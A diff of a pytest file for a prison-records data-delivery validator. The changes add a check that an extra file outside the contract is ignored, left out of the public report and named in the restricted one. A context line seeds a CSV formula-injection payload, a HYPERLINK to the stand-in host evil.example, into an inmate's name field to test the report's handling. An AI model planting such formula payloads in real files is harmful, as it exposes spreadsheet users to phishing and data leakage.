@@ -23,6 +23,7 @@ RESTRICTED = "report_restricted.html"
 ISO_OR_US_DATE = re.compile(r"\d{4}-\d{2}-\d{2}|\d{1,2}/\d{1,2}/\d{4}")
 AS_OF_PLUS_MARGIN = f"as-of + {SETTINGS.future_margin_days} days"
 LONG_NAME = "Bartholomew-" + "Q" * 1000
+IGNORED_FILE = "ims/notes_for_Bartholomew.csv"
 
 
 class _Tables(HTMLParser):
@@ -77,6 +78,7 @@ def break_delivery(landing: Path) -> None:
     set_value(landing, "oms/Inmate.csv", 8, "LastName", '=HYPERLINK("http://evil.example/?id=A1","Click")')
     set_value(landing, "ims/IMS_STATUS.csv", 12, "STATUS_CD", "")
     set_value(landing, "ims/IMS_OFFENDER.csv", 5, "RACE_CD", "ZQXW")  # warning only: a sample value
+    (landing / IGNORED_FILE).write_text("note\nsee file\n")  # not in the contract: ignored, its name is the sender's
 
 
 @pytest.fixture(scope="module")
@@ -154,6 +156,7 @@ def test_public_report_shows_no_value_from_the_delivery(reports: tuple[Path, Pat
     public = (out / PUBLIC).read_text(encoding="utf-8")
     assert leaked(public, values) == []
     assert str(SETTINGS.as_of) not in public and str(out.parent) not in public  # no as-of date, no landing path
+    assert "notes_for_Bartholomew" not in public and "Files not in the contract, ignored: 1" in public
 
 
 def test_restricted_report_shows_the_values_and_says_it_is_restricted(reports: tuple[Path, Path]) -> None:
@@ -166,6 +169,7 @@ def test_restricted_report_shows_the_values_and_says_it_is_restricted(reports: t
     text = html.unescape(page)
     assert all(v in text for v in q["value"] if v)
     assert "ZQXW" in text and "13-45-2020" in text  # a warning's and an expectation's sample value
+    assert IGNORED_FILE in text
     report = json.loads((out / "report.json").read_text(encoding="utf-8"))
     assert report["classification"].startswith("RESTRICTED")
     metadata = pq.read_schema(out / "quarantine.parquet").metadata
